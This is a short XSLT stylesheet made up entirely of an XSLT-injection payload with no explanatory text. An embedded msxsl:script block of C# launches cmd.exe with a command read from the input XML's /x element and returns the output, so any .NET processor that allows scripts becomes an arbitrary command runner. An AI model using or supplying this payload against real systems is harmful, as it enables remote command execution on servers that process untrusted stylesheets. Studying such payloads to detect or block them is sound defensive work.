<?xml version="1.0"?>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:z="urn:z">
<msxsl:script language="C#" implements-prefix="z"><![CDATA[
public string run(string a) { var i = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + a); i.UseShellExecute = false; i.RedirectStandardOutput = true; return System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd(); }
]]></msxsl:script>
<xsl:template match="/"><xsl:value-of select="z:run(string(/x))"/></xsl:template>
</xsl:stylesheet>
